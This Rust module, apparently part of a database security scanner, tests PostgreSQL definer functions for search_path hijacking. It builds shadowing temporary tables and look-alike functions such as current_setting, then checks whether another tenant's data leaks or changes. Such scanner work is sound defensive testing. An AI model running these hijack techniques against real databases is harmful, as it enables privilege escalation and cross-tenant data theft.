//! Names that a definer function takes from the caller: a temporary table, a function in a schema that the caller may
//! write to.

use regex_lite::Regex;

use super::{
    Hunt, functions,
    seed::{Row, Seeder, insert},
    stage::Actor,
};
use crate::{
    catalog::{Function, Relation, mentions},
    finding::{TenantContext, Verb},
    rules,
    session::{Session, SessionError, identifier, literal},
};

/// Tries to slip something under every definer function.
pub(super) async fn run(hunt: &mut Hunt) -> Result<(), SessionError> {
    for function in functions::callable(&hunt.stage).into_iter().filter(|function| function.definer) {
        if hunt.spent() {
            return Ok(());
        }
        if hunt.has(&function.object()) {
            continue;
        }
        if temporary_tables(hunt, &function).await? {
            continue;
        }
        own_functions(hunt, &function).await?;
    }
    Ok(())
}

/// Tells whether the search path names the temporary schema itself, which then stands where it says.
fn temporary_is_last(function: &Function) -> bool {
    function.search_path().is_some_and(|path| {
        path.split(',').map(|part| part.trim().trim_matches('"')).any(|part| part == "pg_temp")
    })
}

async fn temporary_tables(hunt: &mut Hunt, function: &Function) -> Result<bool, SessionError> {
    if temporary_is_last(function) {
        return Ok(false);
    }
    let tables: Vec<Relation> = hunt
        .stage
        .targets()
        .into_iter()
        .filter(|table| table.is_table() && unqualified(&function.source, &table.name))
        .collect();
    for table in tables {
        let mut script = Vec::new();
        let columns: Vec<String> = table
            .columns
            .iter()
            .map(|column| format!("{} {}", identifier(&column.name), column.type_name))
            .collect();
        script.push(format!("create temporary table {} ({})", identifier(&table.name), columns.join(", ")));
        script.push(format!("grant all on pg_temp.{} to public", identifier(&table.name)));
        let mut oneself = hunt.stage.victim.clone();
        oneself.principal.clone_from(&hunt.stage.attacker.principal);
        oneself.marker = format!("zqh{}", oneself.marker.get(3..).unwrap_or_default());
        oneself.block = 4;
        let seeds = std::mem::take(&mut hunt.seeds);
        let mut seeder = Seeder::resume(&mut hunt.stage, seeds);
        let forged = seeder.craft(&table, &oneself, &Row::new()).await?;
        hunt.seeds = seeder.seeds;
        let mut temporary = table.clone();
        "pg_temp".clone_into(&mut temporary.schema);
        for column in &mut temporary.columns {
            column.identity.clear();
        }
        script.push(insert(&temporary, &forged));
        if call(hunt, function, &script).await? {
            return Ok(true);
        }
    }
    Ok(false)
}

/// Tells whether a source says a name without the schema before it.
fn unqualified(source: &str, name: &str) -> bool {
    mentions(source, name)
        && source.match_indices(name).any(|(at, _)| {
            let before = source[..at].chars().next_back();
            !matches!(before, Some('.'))
                && !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '"')
        })
}

async fn own_functions(hunt: &mut Hunt, function: &Function) -> Result<(), SessionError> {
    let Some(schema) = writable_schema(hunt) else { return Ok(()) };
    let fixed = function.search_path().map(ToOwned::to_owned);
    if let Some(path) = &fixed {
        let first = path.split(',').map(|part| part.trim().trim_matches('"').to_owned()).collect::<Vec<_>>();
        if !first.contains(&schema.0) {
            return Ok(());
        }
    }
    let Ok(pattern) = Regex::new(r"([A-Za-z_][A-Za-z0-9_]*)\s*\(") else { return Ok(()) };
    let mut names: Vec<String> = pattern
        .captures_iter(&function.source)
        .map(|found| found[1].to_ascii_lowercase())
        .filter(|name| unqualified(&function.source.to_ascii_lowercase(), name))
        .collect();
    names.sort();
    names.dedup();
    let victim = hunt.stage.victim.id.clone();
    for name in names {
        let mut made: Vec<String> = hunt
            .stage
            .catalog
            .functions
            .iter()
            .filter(|other| other.name == name && other.kind == "f" && !other.returns_set)
            .filter_map(|other| {
                let kind = hunt.stage.catalog.types.get(&other.returns)?;
                let returns = format!("{}.{}", identifier(&kind.schema), identifier(&kind.name));
                let value = if kind.category == "B" { "true".to_owned() } else { literal(&victim) };
                Some(format!(
                    "create function {}.{}({}) returns {returns} language sql as $nf$ select {value}::{returns} $nf$",
                    identifier(&schema.0),
                    identifier(&name),
                    other.signature
                ))
            })
            .collect();
        if name == "current_setting" {
            for arguments in ["text", "text, boolean"] {
                made.push(format!(
                    "create function {}.current_setting({arguments}) returns text language sql as $nf$ select {}::text $nf$",
                    identifier(&schema.0),
                    literal(&victim)
                ));
            }
        }
        for one in made {
            let mut script = schema.1.clone();
            script.push(one);
            if fixed.is_none() {
                script.push(format!("select set_config('search_path', {} || ', ' || current_setting('search_path') || ', pg_catalog', true)", literal(&identifier(&schema.0))));
            }
            if call(hunt, function, &script).await? {
                return Ok(());
            }
        }
    }
    Ok(())
}

/// Returns a schema that the role may create in, with what makes it where it has to be made first.
pub(super) fn writable_schema(hunt: &Hunt) -> Option<(String, Vec<String>)> {
    let roles = hunt.stage.roles_in_play();
    let catalog = &hunt.stage.catalog;
    let own = catalog.schemas.iter().find(|schema| {
        roles.iter().any(|role| {
            catalog.has(*role, &schema.grants, "CREATE") && catalog.has(*role, &schema.grants, "USAGE")
        })
    });
    if let Some(schema) = own {
        return Some((schema.name.clone(), Vec::new()));
    }
    roles.iter().any(|role| catalog.has(*role, &catalog.database_grants, "CREATE")).then(|| {
        let made =
            vec!["create schema nf_own".to_owned(), "grant usage on schema nf_own to public".to_owned()];
        ("nf_own".to_owned(), made)
    })
}

/// Calls the function after what was slipped under it.
async fn call(hunt: &mut Hunt, function: &Function, before: &[String]) -> Result<bool, SessionError> {
    let object = function.object();
    let asked_before = before.join("; ");
    // A connection that has called the function before has resolved its names already.
    hunt.stage.used = Session::open(&hunt.stage.url, "novelfoundry isolation").await?;
    for arguments in functions::arguments(hunt, function).into_iter().map(|call| call.0).take(12) {
        hunt.count(&object, Verb::Execute, TenantContext::Tenant, "hijack");
        let mut script = before.to_vec();
        let statement = functions::statement(function, &arguments);
        script.push(statement.clone());
        let baseline = hunt.baseline.clone();
        let outcome = hunt.stage.attempt(Actor::Attacker, &script, Some(&baseline)).await?;
        let asked = format!("{asked_before}; {statement}");
        let word = match &outcome.refusal {
            Some(refusal) => hunt.tokens.in_refusal(refusal, &asked),
            None => outcome.last().and_then(|answer| hunt.tokens.in_answer(answer, &asked)),
        }
        .or_else(|| hunt.tokens.in_heard(&outcome.heard, &asked));
        let evidence = match word {
            Some(word) => format!("with a name of the caller's in its way it told {}", hunt.shown(&word)),
            None if !outcome.changed.is_empty() => {
                "with a name of the caller's in its way it changed another tenant's rows".to_owned()
            }
            None => continue,
        };
        hunt.call_leak(&rules::HIJACK, function, TenantContext::Tenant, &script, &evidence);
        return Ok(true);
    }
    Ok(false)
}
